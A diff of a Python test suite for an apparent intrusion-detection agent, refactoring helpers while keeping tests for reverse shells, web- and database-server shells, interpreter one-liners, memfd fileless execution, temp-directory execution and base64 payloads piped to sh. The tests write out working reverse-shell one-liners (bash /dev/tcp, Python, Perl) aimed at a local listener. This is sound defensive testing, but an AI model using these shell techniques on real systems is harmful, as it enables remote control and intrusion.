@@ -4,7 +4,6 @@ programs named like servers, one-liners, memfd execution, temp-dir execution, a 
 file run, a decoded payload piped to sh), and each has a benign near-miss that must not
 alert. Alerts are matched on the child's pid (or its subtree) or a marker in the alert."""
 import base64
-import json
 import os
 import shutil
 import socket
@@ -13,7 +12,7 @@ import tempfile
 import threading
 import time
 
-from vigiltest import ROOT, Agent, check, marker
+from vigiltest import Agent, ROOT, check, copy_as, marker, trigger
 
 PY = "/usr/bin/python3"
 RULES = os.environ.get("VIGIL_RULES", os.path.join(ROOT, "rules"))  # a dir or file
@@ -65,58 +64,17 @@ def teardown_module():
     shutil.rmtree(base, ignore_errors=True)
 
 
-def mine(alert, pid=None, mark=None):
-    """The alert was raised by pid or a descendant, or mentions mark."""
-    if mark and mark in json.dumps(alert):
-        return True
-    for e in alert.get("events", []):
-        p = e.get("proc", {})
-        if pid and (p.get("pid") == pid or any(a.get("pid") == pid for a in p.get("ancestors", []))):
-            return True
-    return False
-
-
-def alerts(rule, pid=None, mark=None, timeout=5.0):
-    return agent.wait_for(lambda e: e.get("kind") == "alert" and e["rule"] == rule and mine(e, pid, mark),
-                          timeout=timeout)
-
-
-def expect(rule, pid=None, mark=None):
-    found = alerts(rule, pid, mark)
-    check(found, "no '%s' alert for pid=%s mark=%s" % (rule, pid, mark))
-    return found[0]
-
-
-def expect_none(rule, pid=None, mark=None):
-    found = alerts(rule, pid, mark, timeout=1.0)
-    check(not found, "unexpected '%s' alert: %s" % (rule, found[:1]))
-
-
 def run(cmd, **kw):
     p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
     p.wait(timeout=20)
     return p.pid
 
 
-def copy_as(src, name):
-    """A copy of src named name in a fresh directory of base (the program's comm is name)."""
-    d = os.path.join(base, marker())
-    os.mkdir(d)
-    os.chmod(d, 0o755)
-    dst = os.path.join(d, name)
-    shutil.copy2(src, dst)
-    return dst
-
-
-def trigger(alert):
-    return alert["events"][-1]
-
-
 # ---- reverse shells ----------------------------------------------------------------
 
 def test_reverse_shell_bash_dev_tcp():
     pid = run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % listener.port])
-    a = expect("Reverse shell", pid=pid)
+    a = agent.expect("Reverse shell", pid=pid)
     ev = trigger(a)
     check(ev["proc"]["comm"] == "bash" and ev["proc"]["pid"] != pid, ev["proc"])
     check(ev["stdin"]["type"] == "socket" and ev["stdin"]["raddr"] == "127.0.0.1", ev["stdin"])
@@ -129,7 +87,7 @@ def test_reverse_shell_python_socket_dup2():
     code = ("import socket, os\ns = socket.create_connection(('127.0.0.1', %d))\n"
             "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nos.execv('/bin/sh', ['sh', '-i'])\n" % listener.port)
     pid = run([PY, "-c", code])
-    ev = trigger(expect("Reverse shell", pid=pid))
+    ev = trigger(agent.expect("Reverse shell", pid=pid))
     check(ev["proc"]["pid"] == pid and ev["proc"]["exe"] == "/usr/bin/dash", ev["proc"])
     check(ev["stdout"]["type"] == "socket" and ev["stdout"]["rport"] == listener.port, ev["stdout"])
 
@@ -139,18 +97,18 @@ def test_reverse_shell_perl():
             'connect(S, sockaddr_in(%d, inet_aton("127.0.0.1"))) or die; '
             'open(STDIN, "<&S"); open(STDOUT, ">&S"); exec("/bin/sh", "-i");' % listener.port)
     pid = run(["perl", "-e", code])
-    ev = trigger(expect("Reverse shell", pid=pid))
+    ev = trigger(agent.expect("Reverse shell", pid=pid))
     check(ev["stdin"]["proto"] == "tcp" and ev["stdin"]["raddr"] == "127.0.0.1", ev["stdin"])
 
 
 def test_renamed_shell_with_network_stdio():
-    fake = copy_as("/usr/bin/dash", "svc-helper")
+    fake = copy_as(base, "/usr/bin/dash", "svc-helper")
     code = ("import socket, os\ns = socket.create_connection(('127.0.0.1', %d))\n"
             "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nos.execv(%r, ['svc-helper'])\n" % (listener.port, fake))
     pid = run([PY, "-c", code])
-    ev = trigger(expect("Network socket as program stdio", pid=pid))
+    ev = trigger(agent.expect("Network socket as program stdio", pid=pid))
     check(ev["proc"]["exe"] == fake and ev["stdin"]["type"] == "socket", ev)
-    expect_none("Reverse shell", pid=pid)
+    agent.expect_none("Reverse shell", pid=pid)
 
 
 def test_reverse_shell_loop_over_dev_tcp():
@@ -158,9 +116,9 @@ def test_reverse_shell_loop_over_dev_tcp():
     # the command line and the commands it runs (id, stdout on the socket) give it away
     loop = "exec 5<>/dev/tcp/127.0.0.1/%d; while read -r c <&5; do $c >&5 2>&5; done" % listener.port
     pid = run(["bash", "-c", loop])
-    a = expect("Reverse shell command line", pid=pid)
+    a = agent.expect("Reverse shell command line", pid=pid)
     check(trigger(a)["proc"]["pid"] == pid and "/dev/tcp/127.0.0.1/%d" % listener.port in a["output"], a["output"])
-    ev = trigger(expect("Network socket as program stdio", pid=pid))
+    ev = trigger(agent.expect("Network socket as program stdio", pid=pid))
     check(ev["proc"]["comm"] == "id" and ev["stdout"]["rport"] == listener.port, ev)
 
 
@@ -171,7 +129,7 @@ def test_fifo_pipeline_interactive_shell():
     relay = "%s -c 'import socket,sys; s=socket.create_connection((\"127.0.0.1\", %d)); " \
             "open(sys.argv[1], \"wb\").write(s.recv(64))' %s" % (PY, listener.port, fifo)
     pid = run(["sh", "-c", "cat %s | /bin/sh -i 2>&1 | %s" % (fifo, relay)])
-    ev = trigger(expect("Interactive shell without a terminal", pid=pid))
+    ev = trigger(agent.expect("Interactive shell without a terminal", pid=pid))
     check(ev["stdin"]["type"] == "pipe" and ev["proc"]["tty"] == "", ev)
 
 
@@ -179,8 +137,8 @@ def test_non_interactive_and_mentioning_shells_are_not_alerted():
     pid = run(["bash", "-ic", "true"], stdin=subprocess.DEVNULL)
     pid2 = run(["sh", "-c", "echo /dev/tcp is a bash feature; echo x | cat"])
     for p in (pid, pid2):
-        expect_none("Interactive shell without a terminal", pid=p)
-        expect_none("Reverse shell command line", pid=p)
+        agent.expect_none("Interactive shell without a terminal", pid=p)
+        agent.expect_none("Reverse shell command line", pid=p)
 
 
 def test_shell_on_unix_socket_is_not_a_reverse_shell():
@@ -188,8 +146,8 @@ def test_shell_on_unix_socket_is_not_a_reverse_shell():
     code = ("import socket, os\na, b = socket.socketpair()\nb.sendall(b'exit\\n')\n"
             "os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1)\nos.execv('/bin/sh', ['sh'])\n")
     pid = run([PY, "-c", code])
-    expect_none("Reverse shell", pid=pid)
-    expect_none("Network socket as program stdio", pid=pid)
+    agent.expect_none("Reverse shell", pid=pid)
+    agent.expect_none("Network socket as program stdio", pid=pid)
 
 
 def test_shell_upgraded_to_pty_by_python():
@@ -199,7 +157,7 @@ def test_shell_upgraded_to_pty_by_python():
     p = subprocess.Popen([PY, "-c", code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                          start_new_session=True)  # no controlling terminal of its own
     p.wait(timeout=20)
-    a = expect("Shell upgraded to a pseudo-terminal", pid=p.pid)
+    a = agent.expect("Shell upgraded to a pseudo-terminal", pid=p.pid)
     ev = trigger(a)
     check(ev["proc"]["ppid"] == p.pid and ev["proc"]["tty"].startswith("pts/"), ev["proc"])
     check(ev["stdin"]["type"] == "tty", ev["stdin"])
@@ -215,26 +173,26 @@ def script_run(command):
 
 def test_shell_upgraded_to_pty_by_script():
     pid = script_run("/bin/sh")
-    ev = trigger(expect("Shell upgraded to a pseudo-terminal", pid=pid))
+    ev = trigger(agent.expect("Shell upgraded to a pseudo-terminal", pid=pid))
     check(ev["proc"]["ppid"] == pid and ev["exec"]["argv"][1:] == ["-c", "/bin/sh"], ev)
 
 
 def test_script_running_a_command_is_not_an_upgrade():
     pid = script_run("echo %s" % marker())  # CI jobs use script to give a command a tty
-    expect_none("Shell upgraded to a pseudo-terminal", pid=pid)
+    agent.expect_none("Shell upgraded to a pseudo-terminal", pid=pid)
 
 
 def test_shell_without_terminal_from_interpreter_is_not_alerted():
     pid = run([PY, "-c", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'true'])\n"],
               stdin=subprocess.DEVNULL, start_new_session=True)
-    expect_none("Shell upgraded to a pseudo-terminal", pid=pid)
+    agent.expect_none("Shell upgraded to a pseudo-terminal", pid=pid)
 
 
 # ---- shells below servers ------------------------------------------------------------
 
 def spawn_shell_from(server_name, shell_cmd):
     """Runs a python copy named server_name that runs /bin/sh -c shell_cmd; returns its pid."""
-    fake = copy_as(os.path.realpath(PY), server_name)
+    fake = copy_as(base, os.path.realpath(PY), server_name)
     code = "import subprocess\nsubprocess.run(['/bin/sh', '-c', %r])\n" % shell_cmd
     return run([fake, "-c", code])
 
@@ -242,7 +200,7 @@ def spawn_shell_from(server_name, shell_cmd):
 def test_shell_spawned_by_web_server():
     m = marker()
     pid = spawn_shell_from("nginx", "echo %s" % m)
-    a = expect("Shell spawned by web server", pid=pid)
+    a = agent.expect("Shell spawned by web server", pid=pid)
     ev = trigger(a)
     check(ev["proc"]["ppid"] == pid and ev["proc"]["comm"] == "sh", ev["proc"])
     check(m in ev["proc"]["cmdline"] and "nginx" in a["output"], a["output"])
@@ -250,33 +208,33 @@ def test_shell_spawned_by_web_server():
 
 def test_shell_spawned_by_php_fpm_through_interpreter():
     # php-fpm -> interpreter -> sh: the shell's grandparent is the server
-    fpm = copy_as(os.path.realpath(PY), "php-fpm8.2")
+    fpm = copy_as(base, os.path.realpath(PY), "php-fpm8.2")
     m = marker()
     code = ("import subprocess\nsubprocess.run([%r, '-c', \"import subprocess; "
             "subprocess.run(['/bin/sh', '-c', 'echo %s'])\"])\n" % (PY, m))
     pid = run([fpm, "-c", code])
-    ev = trigger(expect("Shell spawned by web server", pid=pid, mark=m))
+    ev = trigger(agent.expect("Shell spawned by web server", pid=pid, mark=m))
     check(ev["proc"]["ancestors"][1]["pid"] == pid, ev["proc"]["ancestors"][:2])
 
 
 def test_web_app_sending_mail_is_not_web_shell():
     pid = spawn_shell_from("php-fpm8.2", "/usr/sbin/sendmail -t -i -f %s@localhost" % marker())
-    expect_none("Shell spawned by web server", pid=pid)
+    agent.expect_none("Shell spawned by web server", pid=pid)
     # a command chained after sendmail is not mail any more
     pid = spawn_shell_from("php-fpm8.2", "/usr/sbin/sendmail -t -i; echo %s" % marker())
-    expect("Shell spawned by web server", pid=pid)
+    agent.expect("Shell spawned by web server", pid=pid)
 
 
 def test_shell_spawned_by_ordinary_program_is_not_web_shell():
     pid = spawn_shell_from("report-worker", "echo %s" % marker())
-    expect_none("Shell spawned by web server", pid=pid)
-    expect_none("Shell spawned by database server", pid=pid)
+    agent.expect_none("Shell spawned by web server", pid=pid)
+    agent.expect_none("Shell spawned by database server", pid=pid)
 
 
 def test_shell_spawned_by_database_server():
     m = marker()
     pid = spawn_shell_from("mysqld", "id; echo %s" % m)
-    a = expect("Shell spawned by database server", pid=pid)
+    a = agent.expect("Shell spawned by database server", pid=pid)
     check(trigger(a)["proc"]["ppid"] == pid, trigger(a)["proc"])
     check("mysqld" in a["output"] and m in a["output"], a["output"])
 
@@ -285,10 +243,10 @@ def test_postgres_archive_command_is_not_db_shell():
     wal = "000000010000000000000001"
     archive = "test ! -f /nonexistent/%s/%s && cp pg_wal/%s /nonexistent/" % (marker(), wal, wal)
     pid = spawn_shell_from("postgres", archive)
-    expect_none("Shell spawned by database server", pid=pid)
+    agent.expect_none("Shell spawned by database server", pid=pid)
     # anything chained after the copy is not archiving any more
     pid = spawn_shell_from("postgres", archive + "; echo %s" % marker())
-    expect("Shell spawned by database server", pid=pid)
+    agent.expect("Shell spawned by database server", pid=pid)
 
 
 # ---- interpreter one-liners ----------------------------------------------------------
@@ -297,7 +255,7 @@ def test_python_one_liner_with_socket():
     m = marker()
     code = "import socket; s = socket.create_connection(('127.0.0.1', %d)); s.close()  # %s" % (listener.port, m)
     pid = run([PY, "-c", code])
-    a = expect("Interpreter one-liner with network or exec code", pid=pid)
+    a = agent.expect("Interpreter one-liner with network or exec code", pid=pid)
     check(m in a["output"] and trigger(a)["proc"]["pid"] == pid, a["output"])
 
 
@@ -305,12 +263,12 @@ def test_perl_and_node_one_liners_with_exec():
     for cmd in (["perl", "-le", "system('true'); # %s" % marker()],  # flags bundled: -l -e
                 ["node", "-e", "require('child_process').execSync('true') // %s" % marker()]):
         pid = run(cmd)
-        expect("Interpreter one-liner with network or exec code", pid=pid)
+        agent.expect("Interpreter one-liner with network or exec code", pid=pid)
 
 
 def test_plain_one_liner_is_not_alerted():
     pid = run([PY, "-c", "import sys; print(sys.version_info[0] * 7)"])
-    expect_none("Interpreter one-liner with network or exec code", pid=pid)
+    agent.expect_none("Interpreter one-liner with network or exec code", pid=pid)
 
 
 # ---- fileless and temporary-directory execution ---------------------------------------
@@ -320,7 +278,7 @@ def test_fileless_memfd_execution():
             "os.write(fd, open('/usr/bin/true', 'rb').read())\n"
             "os.execve('/proc/self/fd/%d' % fd, ['kworker'], {})\n")
     pid = run([PY, "-c", code])
-    a = expect("Fileless execution from memory", pid=pid)
+    a = agent.expect("Fileless execution from memory", pid=pid)
     ev = trigger(a)
     check(ev["proc"]["pid"] == pid and ev["exec"]["exe_deleted"] is True, ev["exec"])
     check(a["priority"].lower() == "critical" and "T1620" in a["tags"], a)
@@ -328,20 +286,20 @@ def test_fileless_memfd_execution():
 
 def test_ordinary_execve_is_not_fileless():
     pid = run([PY, "-c", "import os\nos.execve('/usr/bin/true', ['true'], {})\n"])
-    expect_none("Fileless execution from memory", pid=pid)
+    agent.expect_none("Fileless execution from memory", pid=pid)
 
 
 def test_program_executed_from_temp_dirs():
-    payload = copy_as("/usr/bin/true", "payload")
+    payload = copy_as(base, "/usr/bin/true", "payload")
     pid = run([payload])
-    ev = trigger(expect("Program executed from temporary directory", pid=pid))
+    ev = trigger(agent.expect("Program executed from temporary directory", pid=pid))
     check(ev["proc"]["exe"] == payload, ev["proc"])
     script = "/dev/shm/%s.sh" % marker()
     with open(script, "w") as f:
         f.write("true\n")
     try:
         pid = run(["sh", script])
-        ev = trigger(expect("Program executed from temporary directory", pid=pid))
+        ev = trigger(agent.expect("Program executed from temporary directory", pid=pid))
         check(script in ev["exec"]["argv"], ev["exec"])
     finally:
         os.unlink(script)
@@ -352,7 +310,7 @@ def test_temp_files_as_data_are_not_temp_exec():
     open(data, "w").write("{}")
     for cmd in (["cat", data], ["sh", "-c", 'cat "$0" >/dev/null', data], [PY, "-m", "json.tool", data]):
         pid = run(cmd, cwd=base)
-        expect_none("Program executed from temporary directory", pid=pid)
+        agent.expect_none("Program executed from temporary directory", pid=pid)
 
 
 # ---- dropped file executed (sequence) -------------------------------------------------
@@ -363,7 +321,7 @@ def test_dropped_binary_executed():
             "open(p, 'wb').write(open('/usr/bin/true', 'rb').read())\nos.chmod(p, 0o755)\n"
             "subprocess.run([p])\n" % (d, d))
     pid = run([PY, "-c", code])
-    a = expect("Dropped file executed", pid=pid)
+    a = agent.expect("Dropped file executed", pid=pid)
     check(len(a["events"]) == 2, a["events"])
     drop, ran = a["events"]
     check(drop["event"] == "create_file" and drop["proc"]["pid"] == pid, drop)
@@ -376,7 +334,7 @@ def test_dropped_script_run_by_shell():
     code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'stage2.sh')\n"
             "open(p, 'w').write('true\\n')\nsubprocess.run(['sh', p])\n" % (d, d))
     pid = run([PY, "-c", code])
-    a = expect("Dropped file executed", pid=pid)
+    a = agent.expect("Dropped file executed", pid=pid)
     check(os.path.join(d, "stage2.sh") in a["events"][-1]["exec"]["argv"], a["events"][-1]["exec"])
 
 
@@ -387,7 +345,7 @@ def test_created_file_used_as_data_is_not_alerted():
             "subprocess.run(['cat', p], stdout=subprocess.DEVNULL)\n"
             "subprocess.run(['sh', '-c', 'cat \"$0\" >/dev/null', p])\n" % (d, d))
     pid = run([PY, "-c", code])
-    expect_none("Dropped file executed", pid=pid)
+    agent.expect_none("Dropped file executed", pid=pid)
 
 
 # ---- decoded payloads ------------------------------------------------------------------
@@ -396,10 +354,10 @@ def test_decoded_payload_piped_to_shell():
     m = marker()
     blob = base64.b64encode(("echo %s" % m).encode()).decode()
     pid = run(["sh", "-c", "echo %s | base64 -d | sh" % blob])
-    a = expect("Decoded payload piped to shell", pid=pid)
+    a = agent.expect("Decoded payload piped to shell", pid=pid)
     check(blob in a["output"], a["output"])
 
 
 def test_decoding_to_a_file_is_not_alerted():
     pid = run(["sh", "-c", "echo aGVsbG8= | base64 -d > /dev/null; echo %s" % marker()])
-    expect_none("Decoded payload piped to shell", pid=pid)
+    agent.expect_none("Decoded payload piped to shell", pid=pid)
